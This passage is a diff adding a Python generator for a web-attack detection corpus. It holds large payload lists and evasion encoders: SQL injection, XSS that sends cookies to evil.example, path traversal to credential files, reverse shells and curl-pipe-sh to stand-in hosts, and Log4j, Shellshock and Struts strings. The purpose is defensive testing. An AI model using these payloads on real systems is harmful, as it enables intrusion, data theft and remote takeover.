@@ -1,0 +1,794 @@
+#!/usr/bin/env python3
+"""gen.py — writes the detection corpus (see README.md): attacks/<category>.txt
+from payload lists and the encodings attack tools apply, and benign.txt from
+templates, word lists and a hand-written list of grep-fooling requests.
+Deterministic (fixed seed): rerun after editing, commit the outputs."""
+import os
+import random
+import urllib.parse as up
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+rnd = random.Random(20240601)
+
+
+def q(s, safe=""):
+    return up.quote(s, safe=safe)
+
+
+# ---- encoders: payload -> query-value text as sent on the wire ----
+def e_plain(p):  # curl/browser-bar style: spaces as '+', only the unsafe encoded
+    out = []
+    for ch in p:
+        if ch == " ":
+            out.append("+")
+        elif ch in "#&+%\n\r\t" or ord(ch) > 126:
+            out.append("%%%02X" % ord(ch))
+        else:
+            out.append(ch)
+    return "".join(out)
+
+
+def e_pct(p):
+    return q(p)
+
+
+def e_form(p):  # application/x-www-form-urlencoded as browsers send
+    return up.quote_plus(p)
+
+
+def e_double(p):
+    return q(q(p))
+
+
+def e_unicode(p):
+    return "".join("%%u%04x" % ord(c) if not c.isalnum() else c for c in p)
+
+
+def e_all(p):
+    return "".join("%%%02x" % b for b in p.encode())
+
+
+def e_case(p):
+    s = "".join(c.upper() if c.isalpha() and rnd.random() < 0.5 else c for c in p)
+    return e_plain(s)
+
+
+def e_upper_pct(p):
+    return q(p).upper().replace("%2A", "*")
+
+
+def e_sqlcomment(p):
+    return q(p.replace(" ", "/**/"))
+
+
+def e_mysql_versioned(p):
+    words = p.split(" ")
+    kws = {"union", "select", "and", "or", "from", "order", "by", "sleep"}
+    return e_pct(" ".join("/*!50000%s*/" % w if w.lower() in kws else w for w in words))
+
+
+def e_whitespace(p):
+    return e_pct(p.replace(" ", rnd.choice(["\t", "\n", "\r\n", "  ", "\x0b"])))
+
+
+def e_entities_hex(p):
+    ent = "".join("&#x%x;" % ord(c) if c in "<>\"'()=:/`;" else c for c in p)
+    return q(ent)
+
+
+def e_entities_dec(p):
+    ent = "".join(("&#%d" % ord(c)) + (";" if i + 1 < len(p) and p[i + 1].isdigit() else "")
+                  if c in "<>\"'()" else c for i, c in enumerate(p))
+    return q(ent)
+
+
+def e_entities_named(p):
+    names = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&apos;", "(": "&lpar;",
+             ")": "&rpar;", ":": "&colon;"}
+    return q("".join(names.get(c, c) for c in p))
+
+
+SQL_ENC = [e_plain, e_pct, e_form, e_double, e_unicode, e_all, e_case, e_sqlcomment,
+           e_mysql_versioned, e_whitespace, e_upper_pct]
+XSS_ENC = [e_plain, e_pct, e_form, e_double, e_unicode, e_all, e_case, e_entities_hex,
+           e_entities_dec, e_entities_named, e_upper_pct]
+GEN_ENC = [e_plain, e_pct, e_form, e_double, e_unicode, e_all, e_case, e_upper_pct]
+
+ENDPOINTS = ["/index.php", "/product.php", "/search", "/item", "/news.asp", "/view.jsp",
+             "/api/v1/items", "/shop/catalog", "/user/profile", "/page.aspx", "/cgi-bin/q.cgi",
+             "/"]
+
+
+def make_lines(payloads, encoders, params, want, extra=lambda p: []):
+    out = []
+    seen = set()
+    combos = [(p, e, k) for p in payloads for e in encoders for k in params]
+    rnd.shuffle(combos)
+    # every payload at least once in plain and percent form
+    base = [(p, encoders[i % 2], params[0]) for p in payloads for i in range(2)]
+    for p, e, k in base + combos:
+        ep = rnd.choice(ENDPOINTS)
+        other = rnd.choice(["", "&lang=en", "&page=2", "&sort=asc&debug=0"])
+        line = "%s?%s=%s%s" % (ep, k, e(p), other)
+        if line not in seen:
+            seen.add(line)
+            out.append(line)
+        if len(out) >= want:
+            break
+    for p in payloads:
+        for line in extra(p):
+            if line not in seen:
+                seen.add(line)
+                out.append(line)
+    return out
+
+
+SQLI = [
+    "1' OR '1'='1", "1' OR '1'='1'--", "' OR 1=1--", "' OR 1=1#", "admin'--", "admin' #",
+    "admin'/*", "' or ''='", "1 OR 1=1", "1 AND 1=1", "1 AND 1=2", "1' AND '1'='1",
+    "1' AND SLEEP(5)--", "1 AND SLEEP(5)", "1' WAITFOR DELAY '0:0:5'--",
+    "1; WAITFOR DELAY '0:0:5'--", "'; WAITFOR DELAY '0:0:5'--", "1 UNION SELECT 1,2,3--",
+    "-1 UNION ALL SELECT NULL,NULL,NULL--", "' UNION SELECT username,password FROM users--",
+    "1' UNION SELECT @@version,2--", "1 ORDER BY 1--", "1 ORDER BY 10--", "1' ORDER BY 3#",
+    "1; DROP TABLE users--", "'; DROP TABLE users; --",
+    "1 AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abc)",
+    "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))",
+    "1' AND UPDATEXML(1,CONCAT(0x7e,user()),1)--", "1 AND 1=CONVERT(int,@@version)",
+    "1' AND 1=CAST((SELECT version()) AS int)--", "1;SELECT PG_SLEEP(5)--",
+    "1' || pg_sleep(5)--", "1 AND BENCHMARK(5000000,MD5(1))",
+    "' AND LOAD_FILE('/etc/passwd')--", "1' AND ELT(1=1,SLEEP(5))--",
+    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "1) OR (1=1",
+    "1') OR ('1'='1", "1\")) OR ((\"1\"=\"1", "\" OR \"1\"=\"1", "\" OR \"\"=\"",
+    "') OR 1=1--", "1 AND 5678=5678", "1' AND 'abcd'='abcd", "1 OR 2>1",
+    "1' OR 'x' LIKE 'x", "1'; EXEC xp_cmdshell('ping 127.0.0.1')--",
+    "1; EXEC master..xp_cmdshell 'whoami'--",
+    "1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
+    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
+    "SELECT * FROM users WHERE id=1",
+    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
+    "1' INTO OUTFILE '/var/www/shell.php'--", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
+    "1' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual))--",
+    "-1' UNION SELECT 1,group_concat(table_name) FROM information_schema.tables--",
+    "1 HAVING 1=1--", "1' GROUP BY 1,2--", "1' HAVING 1=1--",
+    "1 AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'",
+    "' OR username LIKE '%admin%", "1 and (select substring(@@version,1,1))='5'",
+    "1;update users set password='x' where user='admin'--",
+    "1';insert into users values('hacker','pass')--", "1'; shutdown--",
+    "'; declare @q varchar(99);set @q='x'; exec master.dbo.xp_dirtree @q;--",
+    "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1 OR SLEEP(5)#",
+    "' OR SLEEP(5) OR '", "1)) AND ((1=1", "-1 UNION SELECT 1,@@datadir,3",
+    "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x70))s), 8446744073709551610, 8446744073709551610)))--",
+    "1 AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)",
+    "1' OR '1'='1' LIMIT 1 --", "admin' OR 1=1 LIMIT 1#", "1' or true--",
+    "' or 'a'='a", "'||(SELECT 1 FROM dual)||'", "'+(SELECT 0 WHERE 1=1)+'",
+    "1 UNION SELECT null, table_name FROM information_schema.tables",
+    "1 union distinct select 1,2", "1' and 0 union select 1,load_file('/etc/passwd')#",
+    "1 and json_keys((select convert((select schema_name from information_schema.schemata) using utf8)))",
+    "1;SELECT IF(1=1,SLEEP(5),0)", "(SELECT 5 FROM PG_SLEEP(5))",
+    "1 AND 3823=(SELECT 3823 FROM PG_SLEEP(5))", "1' AND NAME_CONST(version(),1)--",
+    "1%' AND 2=2 AND '%'='", "1 WAITFOR DELAY '0:0:10'",
+]
+
+XSS = [
+    "<script>alert(1)</script>", "<script>alert(document.cookie)</script>",
+    "<script src=//evil.example/x.js></script>", "<svg/onload=alert(1)>", "<svg onload=alert(1)>",
+    "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert('xss')\">",
+    "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\">", "<iframe src=//evil.example>",
+    "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(1)",
+    "javascript:alert(document.domain)", "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
+    "' autofocus onfocus=alert(1) x='", "\"><svg/onload=prompt(1)>",
+    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">",
+    "<object data=\"javascript:alert(1)\">",
+    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+    "data:text/html,<script>alert(1)</script>", "<div style=\"width:expression(alert(1))\">",
+    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
+    "';alert(1);//", "\";alert(String.fromCharCode(88,83,83));//", "'-alert(1)-'",
+    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<ScRiPt>alert(1)</sCrIpT>", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
+    "<audio src=1 onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<form action=\"javascript:alert(1)\"><input type=submit>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<base href=\"javascript:alert(1)//\">", "<x onclick=alert(1)>click",
+    "<a onmouseover=alert`1`>x</a>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
+    "<body background=\"javascript:alert(1)\">", "<table background=\"javascript:alert(1)\">",
+    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
+    "<style>@import 'javascript:alert(1)';</style>", "<img \"\"\"><script>alert(1)</script>\">",
+    "<iframe srcdoc=\"<script>alert(1)</script>\">",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a>",
+    "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
+    "<button onclick=alert(1)>x</button>", "<p onmouseover=alert(1)>hover</p>",
+    "\"><img src=x onerror=prompt(document.domain)>", "<svg/onload=confirm(1)//",
+    "javascript://%0aalert(1)", "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
+    "\" autofocus onfocus=alert(document.cookie) \"", "<script>eval(atob('YWxlcnQoMSk='))</script>",
+    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
+    "<body onpageshow=alert(1)>", "<svg><set onbegin=alert(1) attributename=x>",
+    "'\"><iframe onload=alert(1)>", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
+    "vbscript:msgbox(1)", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<img src=x onerror=\"&#97;lert(1)\">", "\"-prompt(1)-\"", "';confirm(1)//",
+]
+
+TRAV = [
+    "../../../../etc/passwd", "../../../../../../etc/shadow", "..\\..\\..\\..\\windows\\win.ini",
+    "../../../../windows/system32/drivers/etc/hosts", "....//....//....//etc/passwd",
+    "/etc/passwd", "c:\\boot.ini", "../../../../proc/self/environ", "../../WEB-INF/web.xml",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "php://filter/read=string.rot13/resource=config.php", "file:///etc/passwd",
+    "../../../../var/log/apache2/access.log", "..;/..;/..;/etc/passwd",
+    "../../../etc/passwd\x00.jpg", "../../../../../../../../../../etc/hosts",
+    "..\\..\\..\\..\\..\\boot.ini", "/../../../../etc/group", "../etc/passwd",
+    "../../../../../etc/issue", "c:/windows/win.ini", "../../../../etc/nginx/nginx.conf",
+    "php://input", "zip://shell.jpg#payload.php", "phar://uploads/x.phar/test",
+    "expect://id", "/proc/self/cmdline", "..%2f..%2f..%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    "..%5c..%5c..%5cwindows%5cwin.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+    "..%u2216..%u2216windows%u2216win.ini".replace("2216", "005c"),
+    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
+]
+
+
+def trav_extra(p):
+    out = []
+    if "%" in p:  # pre-encoded forms also in the path
+        out.append("/static/" + p)
+        out.append("/download?file=" + p)
+    return out
+
+
+TRAV_PATHS = [
+    "/static/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+    "/..%c0%af..%c0%af..%c0%afetc/passwd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+    "/..\\..\\..\\windows\\win.ini", "/images/..%5c..%5c..%5cwindows%5cwin.ini",
+    "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/assets/%252e%252e/%252e%252e/etc/passwd",
+    "/a/..;/..;/..;/etc/passwd", "/files/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow",
+    "/..%255c..%255c..%255cwindows/win.ini", "/public/..%2F..%2F..%2Fetc%2Fpasswd",
+    "/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/view/%u002e%u002e/%u002e%u002e/etc/passwd",
+    "/..././..././..././etc/passwd", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
+]
+
+RFI_URLS = [
+    "http://evil.example/shell.txt?", "http://203.0.113.5/c99.txt", "https://evil.example/r57.php",
+    "ftp://evil.example/backdoor.txt", "http://evil.example/x.txt\x00",
+    "http://evil.example/inj.txt?", "https://pastebin.example/raw/abc123",
+    "http://198.51.100.7:8080/id.txt", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
+    "data:text/plain,<?php phpinfo();?>", "http://evil.example/webshell.php",
+    "HTTP://EVIL.EXAMPLE/SHELL.TXT?", "http://evil.example/shell.jpg?",
+    "ftps://evil.example/x.php", "http://evil.example/x?cmd=id",
+]
+RFI_PARAMS = ["page", "file", "include", "inc", "path", "template", "mosConfig_absolute_path",
+              "module", "dir", "document", "folder", "root", "pg", "conf", "load", "layout",
+              "include_path", "phpbb_root_path", "abspath", "src"]
+
+CMDI = [
+    ";id", "||id", "&&id", "`id`", "$(id)", ";cat /etc/passwd", "| cat /etc/passwd",
+    "&& whoami", ";uname -a", "\nid", ";sleep 5", "|sleep 5", "`sleep 5`", "$(sleep 5)",
+    ";ping -c 3 127.0.0.1", "& ping -n 3 127.0.0.1 &", ";wget http://evil.example/x.sh -O /tmp/x.sh",
+    ";curl http://evil.example/x|sh", ";echo QWERTY$((12+34))", "|echo QWERTY$((12+34))",
+    ";cat${IFS}/etc/passwd", ";c'a't /etc/passwd", ";w\"h\"oami", ";/bin/bash -c 'id'",
+    ";nc -e /bin/sh 203.0.113.5 4444", ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    "{cat,/etc/passwd}", ";ls -la", "& dir c:\\", "| type c:\\windows\\win.ini",
+    ";powershell -c whoami", "&& net user", ";busybox wget http://evil.example/m",
+    "\ncat /etc/passwd", "|whoami", "&whoami", "`whoami`", "$(whoami)", ";ifconfig",
+    "| ipconfig /all", ";netstat -an", ";nslookup evil.example", "$(nslookup evil.example)",
+    ";python -c 'import os'", "|perl -e 'print 1'", ";php -r 'phpinfo();'",
+    ";rm -rf /tmp/x", "; sleep${IFS}10", "%0Aid".lower(), "\n/usr/bin/id",
+    ";/usr/bin/whoami", "|/bin/ls -al", "&&cat$IFS/etc/passwd", "';id;'", "\";id;\"",
+    "$(curl http://evil.example/$(whoami))", "`curl evil.example`", ";chmod +x /tmp/x",
+    ";tftp -i 203.0.113.5 GET x", "| nc 203.0.113.5 80", ";echo$IFS'vulnerable'",
+    ";uname${IFS}-a", "&&ping$IFS-c$IFS1$IFS127.0.0.1", "|timeout 5 ping 127.0.0.1",
+    ";sleep 5;", "||sleep 5||", "&&sleep 5&&", "$(sleep${IFS}5)", "`sleep${IFS}5`",
+]
+CMDI_PREFIX = ["", "127.0.0.1", "test", "1", "example.com", "x'", "x\"", "8.8.8.8 "]
+
+LOG4J = [
+    "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}",
+    "${jndi:dns://x.example/a}", "${${upper:j}ndi:ldap://x.example/a}",
+    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
+    "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", "${jNdI:LdAp://x.example/a}",
+    "${${lower:jndi}:${lower:rmi}://x.example/a}", "${jndi:ldaps://x.example/a}",
+    "${${::-j}ndi:ldap://x.example/${env:USER}}", "${jndi:iiop://x.example/a}",
+    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//x.example/a}",
+]
+SHELLSHOCK = [
+    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'", "() { :;}; /bin/sh -c \"wget http://x.example/b\"",
+    "() { _; } >_[$($())] { id; }", "() { :; }; /bin/ping -c 3 x.example",
+    "() {:;}; echo Content-Type: text/plain; echo; id", "() { ignored; }; /usr/bin/id",
+]
+STRUTS = [
+    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
+    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))}",
+    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
+    "action:${@java.lang.Runtime@getRuntime().exec('id')}",
+    "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "${#_memberAccess[\"allowStaticMethodAccess\"]=true}",
+    "%{1+1}", "${(111+111)}",
+]
+EXPLOIT_TARGETS = [
+    "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
+    "/?-s", "/index.php?%2Dd+allow_url_include%3Don+-d+auto_prepend_file%3Dphp%3A//input",
+    "/test.php?%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input",
+    "/cgi-bin/php-cgi?%2dd+allow_url_include%3don+%2dd+safe_mode%3doff+%2dd+auto_prepend_file%3dphp%3a%2f%2finput",
+    "/hello.php?%C2%ADd+allow_url_include%3D1+%C2%ADd+auto_prepend_file%3Dphp://input",
+    "/struts2-showcase/${(111+111)}/actionChain1.action",
+    "/struts2-showcase/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/actionChain1.action",
+    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
+    "/app?class.module.classLoader.URLs%5B0%5D=0",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
+    "/_ignition/execute-solution", "/HNAP1/", "/boaform/admin/formLogin?username=admin&psd=admin",
+    "/GponForm/diag_Form?images/", "/cgi-bin/luci/;stok=/locale?form=country",
+    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*",
+    "/mgmt/tm/util/bash", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
+    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+    "/+CSCOE+/logon.html", "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example",
+    "/wls-wsat/CoordinatorPortType", "/_async/AsyncResponseService",
+    "/console/css/%252e%252e%252fconsole.portal", "/api/jsonws/invoke",
+    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
+    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___", "/picsdesc.xml",
+    "/cgi-bin/mainfunction.cgi?action=login", "/ctrlt/DeviceManager", "/actuator/gateway/routes",
+    "/?XDEBUG_SESSION_START=phpstorm", "/vpns/cfg/smb.conf", "/dana-na/jam/getComponent.cgi",
+    "/cgi-bin/config.exp",
+]
+
+
+def exploit_lines():
+    out = list(EXPLOIT_TARGETS)
+    for p in LOG4J:
+        out.append("UA:" + p)
+        out.append("UA:Mozilla/5.0 " + p)
+        out.append("REF:" + p)
+        out.append("/?x=" + q(p))
+        out.append("/search?q=" + e_plain(p))
+        out.append("/" + q(p, safe="/:"))
+        out.append("/login?user=" + e_double(p))
+    for p in SHELLSHOCK:
+        out.append("UA:" + p)
+        out.append("REF:" + p)
+        out.append("/cgi-bin/status?x=" + q(p))
+        out.append("/cgi-bin/test.cgi\tUA:" + p)
+    for p in STRUTS:
+        out.append("/index.action?x=" + q(p))
+        out.append("/login.action?redirect=" + e_plain(p))
+        out.append("/upload.action\tUA:" + p)
+    return out
+
+
+SENSITIVE = [
+    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/.git/config", "/.git/HEAD",
+    "/.git/index", "/.svn/entries", "/.hg/hgrc", "/wp-config.php.bak", "/wp-config.php~",
+    "/wp-config.php.old", "/wp-config.php.save", "/wp-config.php.swp", "/.wp-config.php.swp",
+    "/config.php~", "/config.php.bak", "/configuration.php.bak", "/config.inc.php.orig",
+    "/.config.php.swp", "/settings.py.bak", "/app/config/parameters.yml.bak", "/.aws/credentials",
+    "/.ssh/id_rsa", "/.ssh/id_ed25519", "/id_rsa", "/server-status", "/server-info", "/phpinfo.php",
+    "/info.php", "/.DS_Store", "/.htpasswd", "/.htaccess", "/admin/.htpasswd", "/web.config",
+    "/web.config.bak", "/backup.sql", "/dump.sql", "/database.sql.gz", "/db.sql", "/backup.zip",
+    "/backup.tar.gz", "/www.zip", "/site.tar.gz", "/htdocs.zip", "/.bash_history",
+    "/.docker/config.json", "/.kube/config", "/.npmrc", "/actuator/env", "/actuator/heapdump",
+    "/debug/pprof/", "/elmah.axd", "/trace.axd", "/wp-config.php", "/docker-compose.yml",
+    "/config/database.yml", "/server.key", "/ssl/private.pem", "/.git/logs/HEAD", "/index.php.bak",
+    "/.vscode/sftp.json", "/.idea/workspace.xml", "/phpinfo", "/php_info.php", "/.env.example.bak",
+    "/localsettings.php.bak", "/.gitignore", "/.bzr/branch-format", "/wp-config.bak",
+]
+
+
+def sensitive_lines():
+    out = []
+    prefixes = ["", "/app", "/blog", "/wp", "/site", "/public", "/api/v1", "/static/.."]
+    for s in SENSITIVE:
+        for i, pre in enumerate(rnd.sample(prefixes, 3)):
+            v = pre + s
+            kind = (i + len(s)) % 5
+            if kind == 1:
+                v = v.replace("/.", "/%2e", 1)
+            elif kind == 2:
+                v = "".join(c.upper() if rnd.random() < 0.3 else c for c in v)
+            elif kind == 3:
+                v = v.replace("/", "//", 1)
+            elif kind == 4:
+                v = v.replace("/", "/./", 1)
+            out.append(v)
+    return out
+
+
+SCANNERS = [
+    "sqlmap/1.7.{v}#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.{v}) (Evasions:None) (Test:00{v}01)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "masscan/1.{v} (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.{v}",
+    "WPScan v3.8.{v} (https://wpscan.com/wordpress-security-scanner)",
+    "DirBuster-1.0-RC{v} (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+    "gobuster/3.{v}", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei) v{v}",
+    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner {v})",
+    "Mozilla/5.0 (compatible; Nessus; NASL {v})", "OpenVAS-VT 22.{v}", "w3af.org/{v}",
+    "WhatWeb/0.5.{v}", "Mozilla/5.0 (compatible; Netsparker {v})", "Arachni/v1.{v}",
+    "Mozilla/5.0 SF/2.{v}b (skipfish)", "Wfuzz/3.1.{v}", "feroxbuster/2.10.{v}", "Havij {v}",
+    "commix/v3.{v} (https://commixproject.com)", "Jaeles v0.{v}", "ZmEu {v}",
+    "Morfeus Fucking Scanner {v}", "Mozilla/5.0 (compatible; CensysInspect/1.{v}; +https://about.censys.io/)",
+    "Mozilla/5.0 (l9explore/1.{v})", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1) Paros/3.2.{v}",
+    "Mozilla/5.0 (compatible; InternetMeasurement/1.{v}; +https://internet-measurement.com/)",
+    "python-requests/2.31.0 sqlmap-tamper/{v}", "Fimap 1.{v}", "Wapiti-3.0.{v}",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 nuclei/{v}",
+    "DotDotPwn v3.0.{v}", "Mozilla/5.0 (Windows NT 10.0) Metasploit/{v}", "joomscan {v}",
+]
+
+
+def scanner_lines():
+    out = []
+    for s in SCANNERS:
+        for v in range(1, 4):
+            ua = s.format(v=v)
+            path = rnd.choice(["/", "/index.php", "/robots.txt", "/login", "/wp-login.php"])
+            out.append("%s\tUA:%s" % (path, ua))
+    return out
+
+
+# ---------------- benign ----------------
+WORDS_EN = """select a size union station drop-down menu delete account alert settings onload event
+exec summary script writing scripting language javascript tutorial drop shipping order by date
+update profile insert coin table lamp sleep mask wait for delay kitchen table drop table leaf
+union jack select all from the menu where to buy having fun or not like and or xor gate
+from here to there truncate text declare independence shutdown procedure cat food dog toys
+ping pong table echo dot whoami quiz id card type writer sort by price cast iron pan
+char broiler concat string benchmark results sleep apnea load file version history user guide
+null and void true story false alarm case study exists or not waitfor it between us
+information desk admin panel passwd reset etc and so on window frame onion rings img tag
+iframe embed code svg icons math help object lesson style guide form builder meta tags
+base camp link building template engine xml sitemap import export handler dance animate logo
+expression of interest data science prompt response confirm order eval period print layout""".split()
+WORDS_DE = "Größe wählen Straße Bahnhof Fußball Übersicht Käse Brötchen Schlüssel Zürich Müller".split()
+WORDS_FR = "sélectionner taille crème brûlée hôtel café déjà vu garçon Noël naïve".split()
+WORDS_JA = "東京 ラーメン 検索 靴 サイズ 選択 日本語 カレー 新宿 駅".split()
+WORDS_RU = "Москва поиск размер выбрать".split()
+WORDS_ES = "María José niño año señor camión".split()
+NAMES = ["O'Brien", "D'Angelo", "rock 'n' roll", "McDonald's", "Tom & Jerry", "fish & chips",
+         "dog & cat toys", "sleep & relax", "salt & pepper", "black & white", "rock & roll",
+         "Jack O'Neill", "L'Oréal", "it's", "don't stop", "Guns N' Roses", "Ben & Jerry's",
+         "Bed Bath & Beyond", "5' 11\"", "12\" pizza", "size 10 or 12", "2 and 2"]
+
+BROWSER_UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
+              "Mozilla/5.0 (Linux; U; Android 4.4.2; en-us; SCH-I535 Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
+              "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+              "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+              "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/300.0.598994205 Mobile/15E148 Safari/604.1",
+              "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.48.109;]",
+              "Slack-ImgProxy (+https://api.slack.com/robots)", "Wget/1.21.4", "python-requests/2.31.0",
+              "Go-http-client/2.0", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+              "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
+              "Twitterbot/1.0", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+              "MyApp%20Beta/1.2.3 CFNetwork/1490.0.4 Darwin/23.2.0",
+              "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; AS; rv:11.0) like Gecko"]
+
+REFERERS = ["https://www.google.com/", "https://www.google.co.jp/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3",
+            "https://shop.example.com/cart?step=2", "https://t.co/AbCdEf123",
+            "https://www.bing.com/search?q=select+a+size&form=QBLH",
+            "https://example.com/blog/2023/05/union-station-guide?utm_source=newsletter&utm_medium=email",
+            "android-app://com.google.android.gm/", "-", "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2F&h=AT0abc"]
+
+
+def enc_text(t):
+    return rnd.choice([up.quote_plus, lambda s: up.quote(s)])(t)
+
+
+def b64tok(n):
+    import base64
+    raw = bytes(rnd.getrandbits(8) for _ in range(n))
+    return base64.b64encode(raw).decode()
+
+
+def phrase():
+    pools = [WORDS_EN] * 6 + [WORDS_DE, WORDS_FR, WORDS_JA, WORDS_RU, WORDS_ES]
+    pool = rnd.choice(pools)
